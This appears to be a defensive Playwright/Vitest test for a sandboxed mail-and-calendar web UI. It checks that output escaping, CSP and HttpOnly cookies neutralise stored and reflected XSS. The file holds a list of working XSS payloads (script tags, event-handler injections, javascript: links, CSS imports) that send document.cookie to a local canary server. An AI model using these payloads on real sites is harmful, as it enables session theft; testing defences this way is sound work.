// Attacker's test (issue 30, item 12): hostile mail, documents, events, contacts and todos in a Claw sandbox,
// rendered by its web UI in real Chromium. Showing the text to the browser agent is the task's business; running
// it as script in the app origin (which holds the sandbox's token cookie) is not. Every payload would record
// itself in window.__pwned and ping a canary server with document.cookie: neither happens on any page, the text is
// visibly there (escaped), and even script injected into the DOM after load is refused by the CSP. The token
// cookie is HttpOnly and SameSite=Strict: page script cannot read it.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM_FLAGS } from '../../browser-env/pool.ts';
import { baseWorld } from '../../claw-env/fixtures/world.ts';
import { ClawSandbox } from '../../claw-env/sandbox.ts';
import { loadConfig } from '../../sandbox/config.ts';

let canary: http.Server;
let canaryPort = 0;
const canaryHits: string[] = [];
let browser: Browser;
let context: BrowserContext;
let page: Page;
let sb: ClawSandbox;
let origin = '';

/** Hostile spellings; each one, if it ever ran, pushes its tag and pings the canary with the cookies. */
function payloads(tag: string): string[] {
  const code = `(window.__pwned=window.__pwned||[]).push('${tag}');new Image().src='http://127.0.0.1:${canaryPort}/${tag}?'+document.cookie`;
  return [
    `<script>${code}</script>`,
    `<img src=x onerror="${code}">`,
    `"><svg onload="${code}">`,
    `'><details open ontoggle="${code}">`,
    `</textarea><script>${code}</script>`,
    `</title><script>${code}</script>`,
    `</pre><iframe srcdoc="<script>${code}</script>"></iframe>`,
    `javascript:${code}`,
    `<a href="javascript:${code}">click</a>`,
    `<meta http-equiv="refresh" content="0;url=http://127.0.0.1:${canaryPort}/${tag}-meta">`,
    `<link rel=stylesheet href="http://127.0.0.1:${canaryPort}/${tag}-css"><style>@import 'http://127.0.0.1:${canaryPort}/${tag}-import';</style>`,
  ];
}
const P = (tag: string) => payloads(tag).join(' ');
/** A shorter mix for query parameters with length limits. */
const Q = (tag: string) => [0, 2, 3].map((i) => payloads(tag)[i]).join(' ');

beforeAll(async () => {
  canary = http.createServer((req, res) => {
    canaryHits.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((ok) => canary.listen(0, '127.0.0.1', ok));
  canaryPort = (canary.address() as AddressInfo).port;

  const seed = baseWorld(7).state;
  const me = seed.user.email;
  seed.user.name = P('user');
  seed.mail.folders.push(P('folder'));
  seed.mail.messages.push({
    id: 'msg_hostile', thread_id: 'th_hostile', folder: 'inbox', labels: [P('label')], from: `x@evil.example${P('from')}`, from_name: P('fromname'),
    to: [me, P('to')], cc: [P('cc')], subject: P('subject'), body: P('body'), date: seed.now, read: false, starred: false,
    attachments: [{ filename: P('attachment'), mime: 'text/html', size: 1 }],
  });
  seed.calendar.events.push(
    { id: 'ev_hostile', title: P('evtitle'), start: '2026-03-10T10:00:00Z', end: '2026-03-10T11:00:00Z', timezone: 'UTC', location: P('evloc'), description: P('evdesc'), organizer: `o@evil.example${P('organizer')}`, attendees: [{ email: me, response: 'needs_action' }, { email: P('attendee'), response: 'needs_action' }], status: 'confirmed' },
    { id: 'ev_mine', title: P('mytitle'), start: '2026-03-10T12:00:00Z', end: '2026-03-10T13:00:00Z', timezone: 'UTC', location: P('myloc'), description: '', organizer: me, attendees: [], status: 'confirmed' },
  );
  seed.contacts.push({ id: 'ct_hostile', name: P('ctname'), email: `c@evil.example${P('ctemail')}`, phone: P('phone'), company: P('company'), title: P('cttitle'), timezone: 'UTC', notes: P('notes') });
  seed.docs.push({ id: 'doc_hostile', title: P('doctitle'), body: P('docbody'), tags: [P('tag')], created_at: seed.now, updated_at: seed.now });
  seed.todos.push({ id: 'td_hostile', title: P('todo'), notes: P('todonotes'), list: P('list'), priority: 'high', status: 'open', created_at: seed.now });
  sb = new ClawSandbox('sb_xss', { seed, apps: ['mail', 'calendar', 'contacts', 'docs', 'todo'], task: null });
  await sb.ready();
  origin = sb.details().claw!.origin;
  browser = await chromium.launch({ executablePath: loadConfig({ env: {}, flags: {} }).chromiumPath, args: CHROMIUM_FLAGS });
  context = await browser.newContext();
  page = await context.newPage();
  await page.goto(sb.details().claw!.login_url);
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await sb?.close();
  await new Promise<void>((ok) => (canary ? canary.close(() => ok()) : ok()));
});

/** No payload ran, nothing reached the canary, no active element came from content. */
async function assertInert(where: string): Promise<void> {
  await page.waitForLoadState('load');
  await page.waitForTimeout(150); // an onerror/ontoggle or image ping would have fired by now
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string[] }).__pwned ?? null), where).toBeNull();
  expect(canaryHits, where).toEqual([]);
  const active = await page.evaluate(() => document.querySelectorAll('script, iframe, svg, object, embed, link, meta[http-equiv], details, [onerror], [onload], [ontoggle], a[href^="javascript:" i], style:not(head > style:first-of-type)').length);
  expect(active, where).toBe(0);
}

describe('Claw web UI with hostile content', () => {
  it('renders every hostile field as text on every page, and none of it runs', async () => {
    const pages: [string, string][] = [
      ['/', ''],
      ['/mail', 'subject'],
      [`/mail?folder=${encodeURIComponent(P('folder'))}`, 'folder'],
      ['/mail/message/msg_hostile', 'body'],
      [`/mail?q=${encodeURIComponent(Q('search'))}`, 'search'],
      ['/calendar?start=2026-03-09', 'evtitle'],
      ['/calendar/event/ev_hostile', 'evdesc'],
      ['/calendar/event/ev_mine', 'myloc'],
      [`/calendar/freebusy?emails=${encodeURIComponent(Q('freebusy'))}`, ''],
      ['/contacts', 'company'],
      ['/contacts/ct_hostile', 'notes'],
      [`/contacts?q=${encodeURIComponent(payloads('cq')[2])}`, 'cq'],
      ['/docs', 'doctitle'],
      ['/docs/doc_hostile', 'docbody'],
      ['/todo?status=all', 'todo'],
      [`/todo?status=${encodeURIComponent(P('status'))}`, ''],
      [`/mail/message/${encodeURIComponent(P('msgid'))}`, 'msgid'],
      [`/nothing/${encodeURIComponent(P('path'))}`, ''],
    ];
    for (const [path, tag] of pages) {
      await page.goto(origin + path);
      await assertInert(path);
      // The payload is on the page as text (escaped), so the check above was not vacuous.
      const shown = await page.evaluate(() => document.body.textContent + [...document.querySelectorAll('input, textarea')].map((e) => (e as HTMLInputElement).value).join(' '));
      if (tag) expect(shown, path).toContain(`push('${tag}')`);
    }
    // The attachment name and the folder list of a message page.
    await page.goto(`${origin}/mail/message/msg_hostile`);
    expect(await page.locator('body').textContent()).toContain(`push('attachment')`);
    expect(await page.locator('#move_folder option').allTextContents()).toContain(P('folder'));
  });

  it('reflects no hostile _back or tool error into an active link', async () => {
    await page.goto(`${origin}/mail/message/msg_hostile`);
    // An edited form: a `javascript:` _back and a failing call whose error message names the (hostile) input.
    await page.evaluate(([back, id]) => {
      const f = document.createElement('form');
      f.method = 'post';
      f.action = '/ui/call/mail_reply';
      for (const [k, v] of Object.entries({ _back: back, 'a.message_id': id, 'a.body': 'x' })) {
        const i = document.createElement('input');
        i.type = 'hidden';
        i.name = k;
        i.value = v;
        f.append(i);
      }
      document.body.append(f);
      f.submit();
    }, [`javascript:${payloads('back')[0]}`, P('errid')] as const);
    await page.waitForURL(/\/ui\/call\/mail_reply$/);
    await assertInert('error page');
    expect(await page.locator('[role=alert]').textContent()).toContain(`push('errid')`);
    expect(await page.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')))).not.toContainEqual(expect.stringMatching(/^javascript:/i));
  });

  it('refuses script injected into a page after load (CSP: no script on this origin)', async () => {
    await page.goto(`${origin}/docs/doc_hostile`);
    const headers = (await page.request.get(`${origin}/docs`)).headers();
    expect(headers['content-security-policy']).toMatch(/script-src 'none'/);
    expect(headers['content-security-policy']).toMatch(/default-src 'none'/);
    expect(headers['content-security-policy']).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    const violations = await page.evaluate(async (port) => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
      const code = `(window.__pwned=window.__pwned||[]).push('dom');new Image().src='http://127.0.0.1:${port}/dom?'+document.cookie`;
      const s = document.createElement('script');
      s.textContent = code;
      document.body.append(s);
      document.body.insertAdjacentHTML('beforeend', `<img src="/nothing.png" onerror="${code}"><a id="js" href="javascript:${code}">x</a>`);
      (document.getElementById('js') as HTMLAnchorElement).click();
      const st = document.createElement('style');
      st.textContent = `@import url(http://127.0.0.1:${port}/css-import);`;
      document.head.append(st);
      await new Promise((ok) => setTimeout(ok, 300));
      return seen;
    }, canaryPort);
    expect(violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'style-src-elem']));
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string[] }).__pwned ?? null)).toBeNull();
    expect(canaryHits).toEqual([]);
  });

  it('keeps the token out of page script: HttpOnly, SameSite=Strict cookie', async () => {
    await page.goto(`${origin}/mail`);
    const token = sb.details().claw!.token;
    expect(await page.evaluate(() => document.cookie)).not.toContain(token);
    const [c] = (await context.cookies(origin)).filter((x) => x.name === 'claw_token');
    expect(c).toMatchObject({ value: token, httpOnly: true, sameSite: 'Strict', path: '/' });
    // The page's own HTML never carries the token either (it is not echoed into forms or links).
    for (const p of ['/', '/mail', '/mail/message/msg_hostile', '/docs/doc_hostile', '/calendar/event/ev_mine']) {
      expect(await (await page.request.get(origin + p)).text()).not.toContain(token);
    }
  });
});
